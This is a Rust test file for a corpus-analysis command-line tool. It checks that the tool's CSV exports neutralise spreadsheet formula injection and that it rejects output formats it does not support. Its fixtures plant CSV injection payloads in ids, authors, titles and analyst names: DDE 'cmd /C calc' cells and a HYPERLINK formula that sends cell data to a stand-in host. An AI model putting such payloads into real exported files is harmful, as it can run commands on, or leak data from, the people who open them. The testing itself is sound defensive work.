//! What the commands write: CSV that a spreadsheet cannot run (ids, authors, titles, analysts
//! and contexts planted with formulas), and `--format` values a command does not write are
//! refused with the list of those it does.

use std::path::Path;

use crate::util::{cmd, json_of_success, repo, tei_1938, text_of_success};

/// Real sentences from the seeds, so that every document has hits.
const KREMLIN: &str = "The Kremlin does not believe that the Japanese Government is deliberately planning a war against the Soviet Union this spring. Japan protested against the border incident.";

/// Cells a spreadsheet would run as formulas.
const PLANTED: [&str; 6] = [
    "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// A corpus whose ids, authors, titles and first sentences are planted formulas.
fn planted_corpus(dir: &Path) -> std::path::PathBuf {
    let mut lines = String::new();
    for (i, p) in PLANTED.iter().enumerate() {
        let line = serde_json::json!({
            "id": format!("{}{i}", p.replace(['\t', '\r'], "")).replace(['\t', '\r'], ""),
            "author": p,
            "title": p,
            "date": format!("1938-0{}-1{i}", 1 + i),
            "text": format!("{p} {KREMLIN}"),
        });
        lines.push_str(&line.to_string());
        lines.push('\n');
    }
    let path = dir.join("planted.jsonl");
    std::fs::write(&path, lines).unwrap();
    path
}

/// Every cell of a CSV text; fails when it is not well-formed.
fn cells(csv_text: &str) -> Vec<String> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv_text.as_bytes());
    r.records()
        .flat_map(|rec| rec.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

/// No cell starts like a formula unless it is a number; the planted values are there,
/// neutralised; and negative numbers are still written as numbers.
fn assert_neutralised(what: &str, csv_text: &str, expect_negative: bool) {
    let all = cells(csv_text);
    for c in &all {
        if c.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            assert!(c.parse::<f64>().is_ok(), "{what}: a formula cell {c:?}");
        }
    }
    assert!(
        all.iter()
            .any(|c| c.starts_with('\'') && c.contains("cmd|' /C calc'!A0")),
        "{what}: the planted cells are missing:\n{csv_text}"
    );
    if expect_negative {
        assert!(
            all.iter()
                .any(|c| c.starts_with('-') && c.parse::<f64>().is_ok()),
            "{what}: no negative number left as a number"
        );
    }
}

fn stdout_of(args: &[&str], extra: &[&Path]) -> String {
    text_of_success(cmd().args(args).args(extra))
}

#[test]
fn score_csv_neutralises_formulas_in_ids_authors_titles_and_contexts() {
    let tmp = tempfile::tempdir().unwrap();
    let corpus = planted_corpus(tmp.path());
    let scores = stdout_of(&["score", "-q", "--format", "csv"], &[&corpus]);
    assert_neutralised("score --format csv", &scores, true);
    assert!(scores.contains("'=HYPERLINK("), "{scores}");
    let hits = stdout_of(&["score", "-q", "--explain", "--format", "csv"], &[&corpus]);
    assert_neutralised("score --explain --format csv", &hits, true);
    // the contexts start with the planted formula
    assert!(hits.contains("\"'=HYPERLINK(\"\"http"), "{hits}");
}

#[test]
fn report_scores_and_hits_csv_neutralise_formulas() {
    let tmp = tempfile::tempdir().unwrap();
    let corpus = planted_corpus(tmp.path());
    let dir = tmp.path().join("rep");
    cmd()
        .args(["report", "-q", "-o"])
        .arg(&dir)
        .arg(&corpus)
        .assert()
        .success();
    for (name, negative) in [("scores.csv", true), ("hits.csv", true)] {
        let text = std::fs::read_to_string(dir.join(name)).unwrap();
        assert_neutralised(name, &text, negative);
    }
}

/// kwic and dfm write their CSV with the same writer as score: planted formulas in ids,
/// titles and contexts are neutralised, and a title with outer spaces is quoted (a spreadsheet
/// would trim it).
#[test]
fn kwic_and_dfm_csv_neutralise_formulas_like_score() {
    let tmp = tempfile::tempdir().unwrap();
    let corpus = planted_corpus(tmp.path());
    let kwic = stdout_of(&["kwic", "Kremlin", "-q", "--format", "csv"], &[&corpus]);
    assert_neutralised("kwic --format csv", &kwic, false);
    assert!(kwic.contains("\n\"'=HYPERLINK(\"\"http"), "{kwic}");
    let out = tmp.path().join("m.csv");
    cmd()
        .args(["dfm", "-q", "-o"])
        .arg(&out)
        .arg(&corpus)
        .assert()
        .success();
    for name in ["m.csv", "m.docs.csv"] {
        let text = std::fs::read_to_string(tmp.path().join(name)).unwrap();
        assert_neutralised(name, &text, false);
    }
    let spaced = tmp.path().join("spaced.jsonl");
    std::fs::write(
        &spaced,
        format!(
            "{}\n",
            serde_json::json!({"id": "d1", "title": " Memo ", "text": KREMLIN})
        ),
    )
    .unwrap();
    let out = tmp.path().join("s.csv");
    cmd()
        .args(["dfm", "-q", "-o"])
        .arg(&out)
        .arg(&spaced)
        .assert()
        .success();
    let docs = std::fs::read_to_string(tmp.path().join("s.docs.csv")).unwrap();
    assert!(docs.ends_with(",\" Memo \"\n"), "{docs}");
}

#[test]
fn compare_csv_neutralises_planted_analysts_and_authors() {
    let tmp = tempfile::tempdir().unwrap();
    let corpus = planted_corpus(tmp.path());
    let by_author = stdout_of(
        &["compare", "-q", "--by", "author", "--format", "csv"],
        &[&corpus],
    );
    assert_neutralised("compare --by author --format csv", &by_author, false);

    // analysts named like formulas, rating the shared 1938 documents
    let shared =
        std::fs::read_to_string(crate::util::shared_file("corpus/analysts/analyst-A.csv")).unwrap();
    let mut ratings = Vec::new();
    for (i, name) in ["+cmd|' /C calc'!A0", "=1+2"].iter().enumerate() {
        let mut w = csv::Writer::from_writer(Vec::new());
        for (n, line) in shared.lines().enumerate() {
            let mut rec: Vec<String> = cells(&format!("{line}\n"));
            if n > 0 {
                rec[0] = name.to_string();
                // a second analyst who differs a little
                if i == 1 && rec[2] != "0" {
                    rec[2] = "1".into();
                }
            }
            w.write_record(&rec).unwrap();
        }
        let p = tmp.path().join(format!("r{i}.csv"));
        std::fs::write(&p, w.into_inner().unwrap()).unwrap();
        ratings.push(p);
    }
    let text = text_of_success(
        cmd()
            .args(["compare", "-q", "--format", "csv"])
            .args(&ratings)
            .arg("--corpus")
            .arg(tei_1938()),
    );
    assert_neutralised("compare --format csv", &text, false);
    assert!(cells(&text).iter().any(|c| c == "'=1+2"), "{text}");
}

/// Before, these printed the table or pretty JSON and exited 0.
#[test]
fn formats_a_command_does_not_write_are_refused_with_the_valid_ones() {
    for (args, valid) in [
        (vec!["eval", "--format", "csv"], "table, json"),
        (vec!["eval", "--format", "jsonl"], "table, json"),
        (vec!["lexicon", "stats", "--format", "csv"], "table, json"),
        (vec!["lexicon", "check", "--format", "jsonl"], "table, json"),
        (vec!["compare", "--format", "jsonl"], "table, json, csv"),
    ] {
        cmd()
            .args(&args)
            .assert()
            .code(2)
            .stderr(predicates::str::contains("invalid value"))
            .stderr(predicates::str::contains(format!(
                "[possible values: {valid}]"
            )));
    }
}

/// JSON lines are one object per line: a period of the timeline, a clustered document.
#[test]
fn timeline_and_cluster_write_json_lines() {
    let seeds = repo().join("corpus/seeds");
    let t = stdout_of(
        &["timeline", "-q", "--format", "jsonl", "--by", "year"],
        &[&seeds],
    );
    assert!(t.lines().count() >= 2, "{t}");
    for l in t.lines() {
        let v: serde_json::Value = serde_json::from_str(l).unwrap();
        assert!(v["period"].is_string() && v["documents"].is_u64(), "{l}");
    }
    let c = stdout_of(
        &["cluster", "-q", "--format", "jsonl", "--k", "2"],
        &[&tei_1938()],
    );
    // one line per document with a tension: those without are left out of clusters
    let scored = stdout_of(&["score", "-q", "--format", "jsonl"], &[&tei_1938()]);
    let with_tension = scored
        .lines()
        .filter(|l| !serde_json::from_str::<serde_json::Value>(l).unwrap()["tension"].is_null())
        .count();
    assert!(
        with_tension < 64,
        "the extract has documents without a tension"
    );
    assert_eq!(c.lines().count(), with_tension, "{c}");
    for l in c.lines() {
        let v: serde_json::Value = serde_json::from_str(l).unwrap();
        assert!(v["id"].is_string(), "{l}");
    }
}

/// The help says that --explain turns the CSV into one row per hit.
#[test]
fn score_help_states_the_per_hit_csv() {
    let help = stdout_of(&["score", "--help"], &[]);
    assert!(help.contains("one row per hit"), "{help}");
}

/// One interval level everywhere: `compare` used 95% for alpha while everything else used 90%.
#[test]
fn compare_gives_90_percent_intervals_like_every_other_command() {
    let mut args: Vec<std::path::PathBuf> = Vec::new();
    for a in ["A", "B", "C"] {
        args.push(crate::util::shared_file(&format!(
            "corpus/analysts/analyst-{a}.csv"
        )));
    }
    let mut c = cmd();
    c.args(["compare", "-q", "--format", "json"]).args(&args);
    let v = json_of_success(&mut c);
    for (dim, d) in v["dimensions"].as_object().unwrap() {
        assert_eq!(d["alpha_ci"]["confidence"], 0.9, "{dim}");
    }
    let table = cmd()
        .args(["compare", "-q"])
        .args(&args)
        .output()
        .unwrap()
        .stdout;
    let table = String::from_utf8(table).unwrap();
    assert!(table.contains("90% bootstrap interval of the"), "{table}");
    assert!(!table.contains("95%"), "{table}");
}

/// `compare --by author` says which groups are tested.
#[test]
fn compare_by_author_says_which_groups_are_tested() {
    let min = diplostance::agreement::groups::MIN_TESTED;
    let said = format!("only groups of {min} or more documents are tested");
    let table = stdout_of(&["compare", "-q", "--by", "author"], &[&tei_1938()]);
    assert!(table.starts_with("documents by author: "), "{table}");
    assert!(table.contains(&said), "{table}");
    let json = stdout_of(
        &["compare", "-q", "--by", "author", "--format", "json"],
        &[&tei_1938()],
    );
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(v["min_tested"], min);
    let help = stdout_of(&["compare", "--help"], &[]);
    assert!(
        help.contains(&format!("groups of {min} or more documents are tested")),
        "{help}"
    );
}
